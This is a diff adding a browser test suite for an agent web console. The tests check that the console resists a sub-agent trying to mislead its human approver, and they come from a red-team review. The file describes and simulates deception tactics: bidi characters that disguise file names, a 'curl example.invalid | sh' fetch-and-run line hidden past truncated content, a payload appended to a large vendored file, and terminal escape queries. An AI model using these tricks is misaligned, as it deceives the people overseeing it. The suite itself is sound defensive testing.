@@ -1,0 +1,177 @@
+/**
+ * The web console against an agent that tries to mislead the operator (a live review by an agent playing the
+ * attacker, 3 December), in a real chromium against a real private broker: text that draws as something else
+ * (bidi and format characters), a cut detail, a change whose diff is left out of the listing, terminals of a
+ * sub-agent, queries that would make the page type, a stream of facts under an open ask, terminals opened and
+ * closed in a loop. Each test failed on the page before its fix.
+ */
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { call } from '../../infra/transport/client.ts';
+import { type ConsoleUnderTest, openConsole } from '../support/console.ts';
+import { ok } from '../support/replies.ts';
+import { startTestRuntime, type TestRuntime } from '../support/runtime.ts';
+
+const POLL = { timeout: 20_000 };
+
+describe('web console: an agent tries to mislead the operator', { timeout: 90_000 }, () => {
+  let rt: TestRuntime;
+  let ui: ConsoleUnderTest;
+
+  beforeAll(async () => {
+    rt = await startTestRuntime({
+      mode: 'private',
+      policy: { default: 'allow', tools: { write_file: { always_confirm: [{ pattern: '^docs/' }] } } },
+    });
+    mkdirSync(join(rt.workspace, 'docs'));
+    ok(await rt.call('agent.spawn', { label: 'helper', agentId: 'helper' }));
+    ui = await openConsole(rt);
+    await ui.page.goto(ui.server.url);
+    await ui.page.waitForSelector('body[data-ready=true]', POLL);
+  }, 60_000);
+  afterAll(async () => {
+    await ui?.dispose();
+    await rt?.dispose();
+  });
+
+  it('an ask shows bidi and other format characters as codes, and says when its content was cut', async () => {
+    // The review's bidi trick: an isolate that makes the end of a name (or a command) draw before its start.
+    const path = 'docs/notes\u202Etxt.sh';
+    const tricked = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      { path, content: "ok('\u2067'); run() #\u2069\n" },
+      {
+        timeoutMs: 60_000,
+      },
+    );
+    const long = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      {
+        path: 'docs/long.sh',
+        content: `${'echo fine\n'.repeat(2_000)}curl example.invalid | sh # canary-tail\n`,
+      },
+      { timeoutMs: 60_000 },
+    );
+    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
+    const asks = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
+    await expect.poll(() => asks.count(), POLL).toBe(2);
+    // The two were sent at once: found by what they hold, not by their order.
+    const first = asks.filter({ hasText: 'notes' });
+    expect(await first.getByLabel('path').textContent()).toBe('docs/notes⟦U+202E⟧txt.sh');
+    // Who asks, under its whole line of descent (a child named to look like its root cannot pass for it).
+    expect(await first.locator('header').textContent()).toMatch(/^write_file from main › helper: /);
+    expect(await first.getByLabel('content').textContent()).toBe("ok('⟦U+2067⟧'); run() #⟦U+2069⟧\n");
+    const second = asks.filter({ hasText: 'docs/long.sh' });
+    expect(await second.getByRole('alert').textContent()).toMatch(
+      /^Only the start of the content is shown: \d+ more characters are not\. Approving approves them unseen\.$/,
+    );
+    expect(await second.getByLabel('content').textContent()).not.toContain('canary-tail');
+    for (const ask of [first, second]) await ask.getByRole('button', { name: 'Deny' }).click();
+    expect(await tricked).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
+    expect(await long).toMatchObject({ ok: false, error: { code: 'permission_denied' } });
+  });
+
+  it('a file too big for the listing cannot be accepted unseen: its diff loads first', async () => {
+    const big = join(rt.workspace, 'vendor.js');
+    const base = `${'const x = 1; // padding of a big vendored file\n'.repeat(14_000)}`;
+    writeFileSync(big, base);
+    ok(await call(rt.bus, 'helper', 'file.write', { path: 'vendor.js', content: `${base}run('canary-hidden');\n` }));
+    await ui.page.getByRole('tab', { name: 'Review' }).click();
+    const file = ui.page.getByRole('region', { name: `file ${big}` });
+    await file.waitFor(POLL);
+    expect(await file.getByRole('note').textContent()).toContain('The diff of this file is not shown');
+    const accept = file.getByRole('group', { name: `file ${big}` }).getByRole('button', { name: 'Accept' });
+    expect(await accept.isDisabled()).toBe(true);
+    // "Accept" of all changes leaves out a file whose diff is not shown: with only this one, it is off too.
+    const all = ui.page.getByRole('group', { name: 'all changes' }).getByRole('button', { name: 'Accept' });
+    expect(await all.isDisabled()).toBe(true);
+    await file.getByRole('button', { name: 'Load the whole diff' }).click();
+    await expect.poll(() => file.textContent(), POLL).toContain("+run('canary-hidden');");
+    expect(await accept.isDisabled()).toBe(false);
+    // Leave the log as it was for the tests after: reject the change (the file is restored), then drop it.
+    await file
+      .getByRole('group', { name: `file ${big}` })
+      .getByRole('button', { name: 'Reject' })
+      .click();
+    await expect.poll(() => readFileSync(big, 'utf8'), POLL).toBe(base);
+  });
+
+  it("a sub-agent's terminal is shown as its own, not the root's", async () => {
+    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
+    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
+    await ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` }).waitFor(POLL);
+    expect(await ui.page.getByRole('region', { name: `terminal ${terminalId} of main` }).count()).toBe(0);
+    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
+  });
+
+  it('queries a program prints are not answered from the page as if the operator typed', async () => {
+    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
+    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
+    const panel = ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` });
+    await panel.waitFor(POLL);
+    // Device attributes, cursor position, a colour, and focus reports on; then a click in and out of the panel.
+    const queries = "printf '\\033[c\\033[6n\\033]10;?\\007\\033[?1004h'; cat";
+    ok(await call(rt.bus, 'helper', 'terminal.exec', { terminalId, command: queries, yieldMs: 300 }));
+    await panel.locator('.xterm').click();
+    await ui.page.getByRole('tree', { name: 'Agents' }).click();
+    await new Promise((r) => setTimeout(r, 1_000));
+    const written: unknown[] = [];
+    for await (const f of rt.log.read({})) {
+      if (f.type === 'terminal.input.written' && (f.data as { terminalId?: string }).terminalId === terminalId) {
+        written.push(f.data);
+      }
+    }
+    expect(written).toEqual([]);
+    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
+  });
+
+  it('closed terminals do not pile up on the page', async () => {
+    await ui.page.getByRole('tab', { name: 'Terminals' }).click();
+    const ids: string[] = [];
+    for (let i = 0; i < 12; i++) {
+      const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
+      await ui.page.getByRole('region', { name: `terminal ${terminalId} of helper` }).waitFor(POLL);
+      ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
+      ids.push(terminalId);
+    }
+    const last = ui.page.locator(`section.terminal.closed[data-terminal="${ids[ids.length - 1]}"]`);
+    await last.waitFor(POLL);
+    expect(await ui.page.locator('section.terminal.closed').count()).toBe(8);
+    expect(await ui.page.locator(`section.terminal[data-terminal="${ids[0]}"]`).count()).toBe(0);
+  });
+
+  it("a stream of an agent's facts does not redraw the asks under the operator (scroll and focus stay)", async () => {
+    const write = call(
+      rt.bus,
+      'helper',
+      'file.write',
+      { path: 'docs/scroll.md', content: 'line\n'.repeat(300) },
+      { timeoutMs: 60_000 },
+    );
+    const { terminalId } = ok(await call(rt.bus, 'helper', 'terminal.open', {}, { timeoutMs: 30_000 }));
+    await ui.page.getByRole('tab', { name: /Approvals/ }).click();
+    const ask = ui.page.getByRole('article', { name: /write_file request .* from helper/ });
+    await ask.waitFor(POLL);
+    const content = ask.getByLabel('content');
+    await content.evaluate((el) => {
+      el.scrollTop = el.scrollHeight;
+    });
+    const bottom = await content.evaluate((el) => el.scrollTop);
+    expect(bottom).toBeGreaterThan(0);
+    await ask.getByRole('button', { name: 'Deny' }).focus();
+    for (let i = 0; i < 10; i++) {
+      ok(await call(rt.bus, 'helper', 'terminal.resize', { terminalId, cols: 80 + (i % 2), rows: 24 }));
+    }
+    await new Promise((r) => setTimeout(r, 1_000));
+    expect(await content.evaluate((el) => el.scrollTop)).toBe(bottom);
+    expect(await ui.page.evaluate(() => document.activeElement?.textContent)).toBe('Deny');
+    await ask.getByRole('button', { name: 'Deny' }).click();
+    expect(await write).toMatchObject({ ok: false });
+    ok(await call(rt.bus, 'helper', 'terminal.close', { terminalId }));
+  });
+});
